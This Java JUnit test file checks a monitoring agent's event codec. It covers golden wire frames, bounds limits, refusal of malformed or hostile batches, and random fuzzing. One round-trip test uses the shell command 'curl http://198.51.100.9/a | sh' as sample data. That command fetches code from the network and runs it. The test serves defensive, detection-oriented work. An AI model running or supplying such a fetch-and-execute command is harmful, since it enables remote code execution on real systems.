package bzh.vigie.wire;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import bzh.vigie.event.Event;
import bzh.vigie.event.Item;
import bzh.vigie.event.ItemTimes;
import bzh.vigie.event.Moment;
import bzh.vigie.event.ReasonCode;
import bzh.vigie.event.Sha256;
import bzh.vigie.event.WatchState;
import bzh.vigie.event.WatchlistEntry;
import bzh.vigie.v1.EventBatch;
import bzh.vigie.v1.NeighbourOrigin;
import bzh.vigie.v1.NeighboursSeen;
import bzh.vigie.v1.WatchlistCheck;
import bzh.vigie.v1.WatchlistHit;
import bzh.vigie.v1.WatchlistSwept;
import bzh.vigie.v1.WatchlistTaken;
import com.google.protobuf.ByteString;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Arrays;
import java.util.HashMap;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The codec against golden frames: what an old agent wrote must be read for ever. */
final class EventCodecTest {
    private static final Path GOLDEN = Path.of("src/test/resources/golden");

    @Test
    void everyKindHasAGoldenFrameThatStaysTheSame() throws IOException, MalformedBatchException {
        for (Event event : Samples.all()) {
            Path file = GOLDEN.resolve(event.getClass().getSimpleName() + ".hex");
            byte[] encoded = EventCodec.encode(List.of(event));
            String hex = HexFormat.of().formatHex(encoded);
            if (!Files.exists(file)) {
                Files.writeString(file, hex + "\n");
                fail(file + " did not exist and was written: read it, then commit it");
            }
            assertEquals(Files.readString(file).strip(), hex, () -> file + " differs: the wire format changed");
            assertEquals(List.of(event), EventCodec.decode(HexFormat.of().parseHex(hex)));
        }
    }

    @Test
    void aStatusWithoutACountOfWhatIsAsShippedIsStillRead() throws IOException, MalformedBatchException {
        String hex = Files.readString(GOLDEN.resolve("LocationRead-1.hex")).strip();
        Event.LocationRead read = (Event.LocationRead)
                EventCodec.decode(HexFormat.of().parseHex(hex)).getFirst();
        assertEquals(Optional.empty(), read.status().asShipped());
        assertEquals(4, read.status().items());
    }

    @Test
    void aPassCarriesTheDigestOfWhatItLeft() throws MalformedBatchException {
        Event.Coverage pass = new Event.Coverage(
                Samples.all().getFirst().at(),
                "linux.persistence",
                Event.Coverage.passOf("linux.persistence"),
                Optional.empty(),
                1,
                2,
                1,
                WatchState.LIVE,
                ReasonCode.NONE,
                "",
                120,
                0,
                Optional.of(Sha256.over(new byte[] {1})));
        assertTrue(pass.isPass());
        assertEquals(List.of(pass), EventCodec.decode(EventCodec.encode(List.of(pass))));
    }

    @Test
    void anItemOfAnAgentThatToldNoObservablesIsStillRead() throws IOException, MalformedBatchException {
        String hex = Files.readString(GOLDEN.resolve("ItemSeen-4.hex")).strip();
        Event.ItemSeen seen =
                (Event.ItemSeen) EventCodec.decode(HexFormat.of().parseHex(hex)).getFirst();
        assertEquals("catches-up", seen.item().times().starts());
        assertEquals(List.of(), seen.item().observables());
    }

    @Test
    void anItemOfAnAgentThatToldNoStartsIsStillRead() throws IOException, MalformedBatchException {
        String hex = Files.readString(GOLDEN.resolve("ItemSeen-3.hex")).strip();
        Event.ItemSeen seen =
                (Event.ItemSeen) EventCodec.decode(HexFormat.of().parseHex(hex)).getFirst();
        assertEquals("f", seen.item().build());
        assertEquals("", seen.item().times().starts());
    }

    @Test
    void anItemOfAnAgentThatToldNoBuildIsStillRead() throws IOException, MalformedBatchException {
        String hex = Files.readString(GOLDEN.resolve("ItemSeen-2.hex")).strip();
        Event.ItemSeen seen =
                (Event.ItemSeen) EventCodec.decode(HexFormat.of().parseHex(hex)).getFirst();
        assertEquals("e", seen.item().pdb());
        assertEquals("", seen.item().build());
    }

    @Test
    void anItemOfAnAgentThatToldNoLogonsIsStillRead() throws IOException, MalformedBatchException {
        String hex = Files.readString(GOLDEN.resolve("ItemSeen-1.hex")).strip();
        Event.ItemSeen seen =
                (Event.ItemSeen) EventCodec.decode(HexFormat.of().parseHex(hex)).getFirst();
        assertEquals(ItemTimes.modified(1_788_768_930_000_000L), seen.item().times());
    }

    @Test
    void whatALogTellsOfAStartComesBackAndItsEntriesAreBounded() throws MalformedBatchException {
        Event.ProcessStarted plain = (Event.ProcessStarted) Samples.all().getFirst();
        Map<String, String> many = new HashMap<>();
        for (int i = 0; i < 100; i++) {
            many.put("Field" + i, "value " + i);
        }
        for (Map<String, String> logged : List.of(Map.of("ParentCommandLine", "sshd -D"), many)) {
            Event.ProcessStarted start = new Event.ProcessStarted(
                    plain.at(),
                    plain.source(),
                    plain.process(),
                    plain.parent(),
                    plain.parentImage(),
                    plain.account(),
                    plain.image(),
                    plain.commandLine(),
                    plain.sha256(),
                    plain.signer(),
                    plain.packageName(),
                    plain.alreadyRunning(),
                    logged);
            Event.ProcessStarted back = (Event.ProcessStarted)
                    EventCodec.decode(EventCodec.encode(List.of(start))).getFirst();
            assertEquals(
                    Math.min(logged.size(), Event.ProcessStarted.MOST_LOGGED),
                    back.logged().size());
            assertTrue(logged.entrySet().containsAll(back.logged().entrySet()));
        }
    }

    @Test
    void samplesCoverEveryKind() {
        Set<Class<?>> kinds = new HashSet<>(Arrays.asList(Event.class.getPermittedSubclasses()));
        Samples.all().forEach(event -> kinds.remove(event.getClass()));
        assertEquals(Set.of(), kinds);
    }

    @Test
    void aBatchKeepsItsOrder() throws MalformedBatchException {
        assertEquals(Samples.all(), EventCodec.decode(EventCodec.encode(Samples.all())));
    }

    @Test
    void anItemComesBackAsItWas() throws MalformedBatchException {
        Item item = Samples.item("curl http://198.51.100.9/a | sh");
        assertEquals(item, EventCodec.decodeItem(EventCodec.encodeItem(item)));
    }

    /** What is kept of controllers is kept in lines. */
    @Test
    void theNameOfAControllerIsOneLine() throws MalformedBatchException {
        Event told = new Event.DirectoryAccounts(
                new Moment(Instant.ofEpochSecond(1_788_768_930), "b", 1),
                "directory.ldap",
                "mairie.example",
                "dc1\r\nx\u0000y",
                1,
                0,
                0,
                List.of(),
                Optional.empty());
        Event.DirectoryAccounts back = (Event.DirectoryAccounts)
                EventCodec.decode(EventCodec.encode(List.of(told))).getFirst();
        assertEquals("dc1  x y", back.controller());
    }

    @Test
    void aTextOverItsBoundIsCutAndTheCutIsSeen() throws MalformedBatchException {
        Event long_ = state("é".repeat(Bounds.DETAIL + 1));
        Event.SourceState back = (Event.SourceState)
                EventCodec.decode(EventCodec.encode(List.of(long_))).getFirst();
        assertEquals(Bounds.DETAIL, back.detail().length());
        assertTrue(back.detail().endsWith("é…"));
    }

    @Test
    void aLoneSurrogateIsReplacedAndAPairIsNotCutInTwo() throws MalformedBatchException {
        Event lone = state("a\uD800b");
        assertEquals(
                "a\uFFFDb",
                ((Event.SourceState) EventCodec.decode(EventCodec.encode(List.of(lone)))
                                .getFirst())
                        .detail());
        Event pairs = state("x" + "😀".repeat(Bounds.TEXT / 2));
        Event.SourceState back = (Event.SourceState)
                EventCodec.decode(EventCodec.encode(List.of(pairs))).getFirst();
        assertTrue(
                back.detail().endsWith("😀…"),
                back.detail().substring(back.detail().length() - 4));
    }

    @Test
    void whatIsOverABoundIsRefusedByName() {
        byte[] batch = EventBatch.newBuilder()
                .setBootId("b")
                .addEvents(bzh.vigie.v1.Event.newBuilder()
                        .setSource("s".repeat(Bounds.ID + 1))
                        .setAgentState(bzh.vigie.v1.AgentState.newBuilder()))
                .build()
                .toByteArray();
        MalformedBatchException refused = assertThrows(MalformedBatchException.class, () -> EventCodec.decode(batch));
        assertTrue(String.valueOf(refused.getMessage()).contains("source has 129 characters"), refused.getMessage());
    }

    @Test
    void aBatchIsReadNoFurtherThanItsNextEvent() throws Exception {
        byte[] batch = EventCodec.encode(Samples.all());
        byte[] after = Arrays.copyOf(batch, batch.length + (8 << 20));
        CountedBytes bytes = new CountedBytes(after);
        EventReader reader = new EventReader(bytes);
        for (Event event : Samples.all()) {
            assertEquals(Optional.of(event), reader.next());
        }
        assertThrows(MalformedBatchException.class, reader::next);
        assertTrue(bytes.position() < batch.length + 64 * 1024, bytes.position() + " bytes read");
    }

    /** A word of seven megabytes in place of one of a closed list took detection 20 ms. */
    @Test
    void anEventOverItsBoundIsRefusedUnread() throws Exception {
        byte[] batch = EventBatch.newBuilder()
                .setBootId("b")
                .addEvents(bzh.vigie.v1.Event.newBuilder().setSource("s".repeat(7_000_000)))
                .build()
                .toByteArray();
        CountedBytes bytes = new CountedBytes(batch);
        EventReader reader = new EventReader(bytes);
        MalformedBatchException refused = assertThrows(MalformedBatchException.class, reader::next);
        assertTrue(String.valueOf(refused.getMessage()).contains("event 0 has 7000"), refused.getMessage());
        assertTrue(bytes.position() < 64 * 1024, bytes.position() + " bytes read");
    }

    @Test
    void aBootIdAfterAnEventIsRefused() {
        byte[] first = EventCodec.encode(Samples.all());
        byte[] twice = Arrays.copyOf(first, 2 * first.length);
        System.arraycopy(first, 0, twice, first.length, first.length);
        assertThrows(MalformedBatchException.class, () -> EventCodec.decode(twice));
    }

    /** Rules would take it for a location of the directory, and who may tell of one would not be looked at. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "Ad.rights.domain",
                "aD.rights.domain",
                "ad.rights.domain ",
                "ad_rights",
                "\u0430d.rights.domain"
            })
    void aLocationThatNoCatalogueWritesSoIsRefused(String location) {
        var item = bzh.vigie.v1.Item.newBuilder()
                .setLocation(location)
                .setSignature("NOT_CHECKED")
                .setShipped("UNKNOWN");
        var seen = bzh.vigie.v1.ItemSeen.newBuilder().setChange(bzh.vigie.v1.Change.CHANGE_ADDED);
        for (var event : List.of(
                bzh.vigie.v1.Event.newBuilder().setItemSeen(seen.setItem(item)),
                bzh.vigie.v1.Event.newBuilder()
                        .setItemSeen(seen.clone()
                                .setItem(item.clone().setLocation("linux.cron.system"))
                                .setBefore(item)),
                bzh.vigie.v1.Event.newBuilder()
                        .setWatchlistCheck(bzh.vigie.v1.WatchlistCheck.newBuilder()
                                .setList(ByteString.copyFrom(new byte[32]))
                                .setHit(bzh.vigie.v1.WatchlistHit.newBuilder()
                                        .setEntry(ByteString.copyFrom(new byte[16]))
                                        .setItem(item))),
                bzh.vigie.v1.Event.newBuilder()
                        .setLocationRead(bzh.vigie.v1.LocationRead.newBuilder()
                                .setStatus(bzh.vigie.v1.LocationStatus.newBuilder()
                                        .setReason(1)
                                        .setLocation(location))))) {
            byte[] batch = EventBatch.newBuilder()
                    .setBootId("b")
                    .addEvents(event.setSource("s"))
                    .build()
                    .toByteArray();
            MalformedBatchException refused =
                    assertThrows(MalformedBatchException.class, () -> EventCodec.decode(batch));
            assertTrue(String.valueOf(refused.getMessage()).contains("location is not"), refused.getMessage());
        }
    }

    @Test
    void anUnknownKindOrConstantIsRefusedNotGuessed() {
        byte[] noKind = EventBatch.newBuilder()
                .setBootId("b")
                .addEvents(bzh.vigie.v1.Event.newBuilder().setSource("s"))
                .build()
                .toByteArray();
        assertThrows(MalformedBatchException.class, () -> EventCodec.decode(noKind));
        byte[] noAction = EventBatch.newBuilder()
                .setBootId("b")
                .addEvents(bzh.vigie.v1.Event.newBuilder()
                        .setSource("s")
                        .setAgentState(bzh.vigie.v1.AgentState.newBuilder().setActionValue(77)))
                .build()
                .toByteArray();
        assertThrows(MalformedBatchException.class, () -> EventCodec.decode(noAction));
    }

    /** What only a hostile agent sends, each with what the refusal says of it. */
    @ParameterizedTest
    @CsvSource({
        "0, 4, 6, 0, neighbours has 0 entries",
        "257, 4, 6, 0, neighbours has 257 entries",
        "2, 5, 6, 0, address must be 4 or 16 bytes",
        "2, 4, 8, 0, mac has 8 bytes",
        "2, 4, 6, 65, name has 65 characters",
        "2, 0, 0, 0, neither address nor name",
    })
    void aListOfNeighboursOverItsBoundsIsRefused(int count, int address, int mac, int name, String why) {
        var seen = NeighboursSeen.newBuilder();
        for (int i = 0; i < count; i++) {
            seen.addNeighbours(bzh.vigie.v1.Neighbour.newBuilder()
                    .setOrigin(NeighbourOrigin.NEIGHBOUR_ORIGIN_CACHE)
                    .setAddress(ByteString.copyFrom(new byte[address]))
                    .setMac(ByteString.copyFrom(new byte[mac]))
                    .setName("n".repeat(name)));
        }
        MalformedBatchException refused =
                assertThrows(MalformedBatchException.class, () -> EventCodec.decode(neighbours(seen)));
        assertTrue(String.valueOf(refused.getMessage()).contains(why), refused.getMessage());
    }

    @Test
    void aNeighbourLastSeenBeforeItWasFirstSeenIsRefused() {
        var seen = NeighboursSeen.newBuilder()
                .addNeighbours(bzh.vigie.v1.Neighbour.newBuilder()
                        .setOrigin(NeighbourOrigin.NEIGHBOUR_ORIGIN_CACHE)
                        .setName("n")
                        .setFirstWallMicros(2)
                        .setLastWallMicros(1));
        assertThrows(MalformedBatchException.class, () -> EventCodec.decode(neighbours(seen)));
    }

    private static byte[] neighbours(NeighboursSeen.Builder seen) {
        return EventBatch.newBuilder()
                .setBootId("b")
                .addEvents(bzh.vigie.v1.Event.newBuilder().setSource("s").setNeighboursSeen(seen))
                .build()
                .toByteArray();
    }

    @Test
    void everyOutcomeOfAWatchlistGoesThrough() throws MalformedBatchException {
        WatchlistEntry entry = new WatchlistEntry("00112233445566778899aabbccddeeff");
        Event.ProcessStarted program = (Event.ProcessStarted) Samples.all().getFirst();
        for (Event.Checked outcome : List.of(
                new Event.Checked.Taken(10_000),
                new Event.Checked.ListedProgram(entry, program),
                new Event.Checked.Swept("r", 1_200, 88, 2, 0))) {
            Event event =
                    new Event.WatchlistCheck(program.at(), program.source(), Sha256.over(new byte[] {1}), outcome);
            assertEquals(List.of(event), EventCodec.decode(EventCodec.encode(List.of(event))));
        }
    }

    @Test
    void anOutcomeOfAWatchlistOverItsBoundsIsRefused() {
        for (WatchlistCheck.Builder check : List.of(
                WatchlistCheck.newBuilder(),
                WatchlistCheck.newBuilder().setTaken(WatchlistTaken.newBuilder().setEntries(10_001)),
                WatchlistCheck.newBuilder()
                        .setHit(WatchlistHit.newBuilder().setEntry(ByteString.copyFrom(new byte[16]))),
                WatchlistCheck.newBuilder()
                        .setHit(WatchlistHit.newBuilder()
                                .setEntry(ByteString.copyFrom(new byte[15]))
                                .setItem(bzh.vigie.v1.Item.newBuilder().setLocation("linux.cron.user"))),
                WatchlistCheck.newBuilder().setSwept(WatchlistSwept.newBuilder().setItems(-1)),
                WatchlistCheck.newBuilder().setSwept(WatchlistSwept.newBuilder().setRequestId("r".repeat(65))))) {
            byte[] batch = EventBatch.newBuilder()
                    .setBootId("b")
                    .addEvents(bzh.vigie.v1.Event.newBuilder()
                            .setSource("s")
                            .setWatchlistCheck(check.setList(ByteString.copyFrom(new byte[32]))))
                    .build()
                    .toByteArray();
            assertThrows(MalformedBatchException.class, () -> EventCodec.decode(batch), check::toString);
        }
    }

    @Test
    void eventsOfTwoBootsDoNotShareABatch() {
        Event other =
                new Event.SourceState(new Moment(Instant.EPOCH, "other", 0), "s", WatchState.LIVE, ReasonCode.NONE, "");
        assertThrows(
                IllegalArgumentException.class,
                () -> EventCodec.encode(List.of(Samples.all().getFirst(), other)));
    }

    @Test
    void rubbishIsRefusedAndNeverThrowsAnythingElse() {
        Random random = new Random(20_260_831);
        byte[] good = EventCodec.encode(Samples.all());
        for (int round = 0; round < 20_000; round++) {
            byte[] bad = good.clone();
            for (int flips = 1 + random.nextInt(8); flips > 0; flips--) {
                bad[random.nextInt(bad.length)] = (byte) random.nextInt(256);
            }
            byte[] cut = random.nextBoolean() ? bad : Arrays.copyOf(bad, random.nextInt(bad.length));
            try {
                EventCodec.decode(cut);
            } catch (MalformedBatchException expected) {
                assertTrue(expected.getMessage() != null);
            }
        }
    }

    private static Event state(String detail) {
        return new Event.SourceState(
                new Moment(Instant.EPOCH, "boot", 0), "s", WatchState.LIVE, ReasonCode.NONE, detail);
    }

    /** A coverage had a detail of 32,768 characters, kept 400 days. */
    @Test
    void detailsThatTheStoreKeepsAreCut() throws Exception {
        String longest = "é".repeat(Bounds.TEXT);
        var coverage = bzh.vigie.v1.Coverage.newBuilder()
                .setSubject("a")
                .setState(bzh.vigie.v1.WatchState.WATCH_STATE_LIVE)
                .setReason(bzh.vigie.v1.ReasonCode.REASON_CODE_NONE)
                .setDetail(longest);
        var state = bzh.vigie.v1.SourceState.newBuilder()
                .setState(bzh.vigie.v1.WatchState.WATCH_STATE_DOWN)
                .setReason(bzh.vigie.v1.ReasonCode.REASON_CODE_FAILED)
                .setDetail(longest);
        var loss = bzh.vigie.v1.Loss.newBuilder()
                .setLane(3)
                .setReason(bzh.vigie.v1.ReasonCode.REASON_CODE_FAILED)
                .setDetail(longest);
        byte[] batch = EventBatch.newBuilder()
                .setBootId("b")
                .addEvents(bzh.vigie.v1.Event.newBuilder().setSource("s").setCoverage(coverage))
                .addEvents(bzh.vigie.v1.Event.newBuilder().setSource("s").setSourceState(state))
                .addEvents(bzh.vigie.v1.Event.newBuilder().setSource("s").setLoss(loss))
                .build()
                .toByteArray();
        for (Event event : EventCodec.decode(batch)) {
            String detail = switch (event) {
                case Event.Coverage told -> told.detail();
                case Event.SourceState told -> told.detail();
                case Event.Loss told -> told.detail();
                default -> throw new AssertionError(event);
            };
            assertEquals("é".repeat(1_023) + "…", detail);
        }
    }

    @Test
    void aBootIdThatIsTooLongIsAMalformedBatch() {
        byte[] batch = EventBatch.newBuilder()
                .setBootId("b".repeat(65))
                .addEvents(bzh.vigie.v1.Event.getDefaultInstance())
                .build()
                .toByteArray();
        assertThrows(MalformedBatchException.class, () -> EventCodec.decode(batch));
    }

    private static final class CountedBytes extends ByteArrayInputStream {
        CountedBytes(byte[] bytes) {
            super(bytes);
        }

        int position() {
            return pos;
        }
    }
}
